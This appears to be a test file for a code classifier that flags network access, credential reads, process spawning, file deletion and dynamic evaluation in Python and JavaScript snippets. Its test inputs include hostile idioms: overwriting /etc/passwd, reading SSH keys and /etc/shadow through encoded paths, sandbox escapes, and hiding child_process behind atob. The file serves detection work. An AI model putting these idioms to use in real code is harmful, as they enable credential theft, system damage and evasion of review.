      "from pathlib import Path\nfor f in Path('/var/log').glob('*.gz'):\n    f.unlink(missing_ok=True)",
      ['fileDelete'],
    ],
    ['import asyncio\nloop = asyncio.get_running_loop()\nloop.subprocess_exec(P, "id")', ['processSpawn']],
    ["import os\nos.startfile('x.exe')", ['processSpawn']],
    // Clients, servers and drivers of common packages, once imported.
    ["import nltk\nnltk.download('punkt')", ['network']],
    ["import boto3\nboto3.client('s3').upload_file('a', 'b', 'c')", ['network']],
    ["from flask import Flask\nFlask(__name__).run(host='0.0.0.0')", ['network']],
    ["import psycopg2\npsycopg2.connect(host='db.internal')", ['network']],
    ['import ssl\nssl.get_server_certificate(("x", 443))', ['network']],
    // .env loaders and keychains.
    ['from dotenv import load_dotenv\nload_dotenv()', ['credentials']],
    ["import keyring\nkeyring.get_password('svc', 'me')", ['credentials']],
    // An archive unpacked over the system.
    ["import tarfile\ntarfile.open('x.tgz').extractall('/')", ['fileDelete']],
    ["import tarfile\nwith tarfile.open('x.tgz') as t:\n    t.extractall(path='/usr/bin')", ['fileDelete']],
    ["import shutil\nshutil.unpack_archive('x.zip', extract_dir='/etc')", ['fileDelete']],
    // Not these: pure URL parsing, a variable named like a package, environment writes and
    // variables that never hold secrets, the socket class, unpacking into a work directory.
    ["from urllib.parse import urlparse\nprint(urlparse('https://x.io').netloc)", []],
    ["requests = [r for r in rows if r['status'] == 500]\nprint(len(requests))", []],
    ["keyring = {'a': 1}\nprint(keyring['a'])", []],
    ["import os\nos.environ.setdefault('TF_CPP_MIN_LOG_LEVEL', '3')", []],
    ["import os\nos.environ.update({'TOKENIZERS_PARALLELISM': 'false'})", []],
    ["import os\nprint(os.getenv('CUDA_VISIBLE_DEVICES'))", []],
    ["import zipfile\nzipfile.ZipFile('x.zip').extractall('out')", []],
    ["import shutil\nshutil.unpack_archive('x.zip', '/usr/local/share/app')", []],
  ])('Python: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it('keeps the socket idiom to network alone', () => {
    expect(
      classes(
        'python',
        "import socket\nwith socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n    s.connect(('x.io', 80))",
      ),
    ).toEqual(['network']);
  });

  it.each([
    // A module whose name has a dot.
    ["import { io } from 'socket.io-client';\nio('https://x.io');", ['network']],
    ["const io = require('socket.io-client');\nio('https://x.io');", ['network']],
    // Packages that run commands or reach the network.
    ["import { $ } from 'zx';\nawait $`ls -la`;", ['processSpawn']],
    ["require('shelljs').exec('make');", ['processSpawn']],
    ["import { execa } from 'execa';\nawait execa('git', ['status']);", ['processSpawn']],
    ["import express from 'express';\nexpress().listen(3000);", ['network']],
    ["const { Client } = require('pg');\nawait new Client({ host: 'db' }).connect();", ['network']],
    ["import { S3Client } from '@aws-sdk/client-s3';\nnew S3Client({});", ['network']],
    // .env loaders.
    ["require('dotenv').config();", ['credentials']],
    ["import 'dotenv/config';", ['credentials']],
    // Setting an environment variable reads nothing; reading one that may hold a secret does.
    ["process.env.NODE_OPTIONS = '--max-old-space-size=4096';", []],
    ["process.env.API_KEY = 'placeholder';", []],
    ['const key = process.env.API_KEY;', ['credentials']],
    ["process.env.PATH += ':/opt/bin';\nprocess.env.TOKEN += 'x';", ['credentials']],
  ])('JavaScript: %s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });
});

describe('classifyCode: escapes, loaders and writes a probe found', () => {
  it.each([
    ["import os\nos.__getattribute__('sys' + 'tem')('id')", ['dynamicEval']],
    ["import importlib\nimportlib.__import__('os').system('id')", ['dynamicEval', 'processSpawn']],
    [
      "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])",
      ['dynamicEval'],
    ],
    ['import pickle, base64\npickle.loads(base64.b64decode(blob))', ['dynamicEval']],
    ["import yaml\nyaml.unsafe_load(open('config.yml'))", ['dynamicEval']],
    ["from pathlib import Path\nPath('/etc/passwd').write_text('root::0:0::/root:/bin/sh')", ['fileDelete']],
    ["import shutil\nshutil.move('/etc/passwd', '/tmp/passwd.bak')", ['fileDelete']],
    [
      "import asyncio\nloop = asyncio.get_event_loop()\nloop.run_until_complete(loop.create_connection(P, 'x.io', 80))",
      ['network'],
    ],
    ["open('/root/.my.cnf').read()", ['credentials']],
    ["import os\nopen(os.path.expanduser('~/.config/gh/hosts.yml')).read()", ['credentials']],
    [
      "import os\nopen(os.path.join(os.path.expanduser('~'), '.terraform.d', 'credentials.tfrc.json'))",
      ['credentials'],
    ],
    ["open('/etc/ssl/private/server.key').read()", ['credentials']],
    // Not these.
    ["import yaml\nyaml.safe_load(open('config.yml'))", []],
    ["from pathlib import Path\nPath('out/report.md').write_text('# Report')", []],
    ["import shutil\nshutil.move('build/a.txt', 'dist/a.txt')", []],
    ['class Proxy:\n    def __getattribute__(self, name):\n        return 1', []],
    ["open('data/cookies.csv').read()", []],
    ['import getpass\nprint(getpass.getuser())', []],
    ['import getpass\npassword = getpass.getpass()', ['credentials']],
  ])('Python: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["await import('child_process');", ['processSpawn']],
    ["await import('https://x.io/payload.mjs');", ['dynamicEval', 'network']],
    ["await import('data:text/javascript,console.log(1)');", ['dynamicEval']],
    ["import run from 'https://x.io/mod.ts';\nrun();", ['dynamicEval', 'network']],
    ['setInterval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41), 100);', ['dynamicEval']],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the code under test holds a template literal
    ['setTimeout(`fetch(${Date.now()})`, 0);', ['dynamicEval']],
    [
      "const { Worker } = require('worker_threads');\nnew Worker('1 + 1', { eval: true });",
      ['dynamicEval', 'processSpawn'],
    ],
    ["require('fs').renameSync('/etc/passwd', '/tmp/p');", ['fileDelete']],
    ["await import('./util.js');", []],
    ['setTimeout(() => done(), 10);', []],
    ["require('fs').renameSync('a.txt', 'b.txt');", []],
    ['const isFunction = (v) => v instanceof Function;', []],
    ['console.log(Function.prototype.toString.call(Math.max));', []],
    ["Function.prototype.constructor('return 1')();", ['dynamicEval']],
    ['console.log(process.env.npm_package_version);', []],
    ['console.log(process.env.npm_config__authToken);', ['credentials']],
  ])('JavaScript: %s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });
});

describe('classifyCode: names hidden by encoding, modules handed on, data read from URLs', () => {
  it.each([
    // A credential path decoded from a constant.
    ["import base64\nopen(base64.b64decode('L3Jvb3QvLnNzaC9pZF9yc2E=').decode()).read()", ['credentials']],
    ["import binascii\nopen(binascii.unhexlify('2f6574632f736861646f77')).read()", ['credentials']],
    // Data libraries fetch a URL they are given, through a name too.
    ["import pandas as pd\ndf = pd.read_csv('https://example.com/iris.csv')", ['network']],
    ["import numpy as np\nurl = 'https://example.com/a.csv'\nnp.genfromtxt(url, delimiter=',')", ['network']],
    // The account's credentials, as cloud SDKs find them.
    ['import boto3\nc = boto3.Session().get_credentials()', ['credentials', 'network']],
    ['import google.auth\ncredentials, project = google.auth.default()', ['credentials']],
    // Not these.
    ["import pandas as pd\ndf = pd.read_csv('data/iris.csv')", []],
    ["import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ=').decode())", []],
  ])('Python: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    // fs handed to code that picks a function out of it.
    [
      "const fs = require('fs');\nconst pick = (o, k) => o[k];\npick(fs, 'rmSync')('/x', { recursive: true });",
      ['fileDelete'],
    ],
    [
      "Object.values(require('fs')).find((f) => f.name === 'rmSync')('/x', { recursive: true });",
      ['fileDelete'],
    ],
    // The global object as `this` of a function called with no object.
    [
      "(function () { return this })().process.mainModule.require('child_process').execSync('id');",
      ['dynamicEval', 'processSpawn'],
    ],
    ['const g = (function () { return this }).call(null);\ng.eval("1");', ['dynamicEval']],
    // A module made by hand compiles the string it is given.
    [
      "const M = require('module');\nconst m = new M('x');\nm._compile('module.exports = 1', 'x.js');",
      ['dynamicEval'],
    ],
    // A timer given a string through a name.
    ["const code = 'console.log(' + Date.now() + ')';\nsetTimeout(code, 1);", ['dynamicEval']],
    // Paths and module names decoded from constants.
    [
      "require('fs').readFileSync(Buffer.from('L3Jvb3QvLnNzaC9pZF9yc2E=', 'base64').toString());",
      ['credentials'],
    ],
    [
      "const fs = require('fs'), os = require('os'), path = require('path');\nconst d = '.' + ['s', 's', 'h'].join('');\nfs.readdirSync(path.join(os.homedir(), d));",
      ['credentials'],
    ],
    ["require(atob('Y2hpbGRfcHJvY2Vzcw==')).execSync('id');", ['dynamicEval', 'processSpawn']],
    ["const m = atob('Y2hpbGRfcHJvY2Vzcw==');\nrequire(m).execSync('id');", ['dynamicEval', 'processSpawn']],
    [
      'require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)).execSync("id");',
      ['dynamicEval', 'processSpawn'],
    ],
    // Not these: a runtime function bound to the global, chainable methods, data decoded.
    ["const f = globalThis.fetch.bind(globalThis);\nf('https://example.com');", ['network']],
    ['function Sum() {}\nSum.prototype.add = function (x) { this.n += x; return this; };', []],
    ["const config = JSON.parse(Buffer.from(process.argv[2], 'base64').toString());", []],
    ["console.log(['a', 'b'].join(', '), atob('aGVsbG8='));", []],
    ["const fs = require('fs');\nconsole.log(fs);\nfs.readFileSync('notes.txt');", []],
  ])('JavaScript: %s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });
});
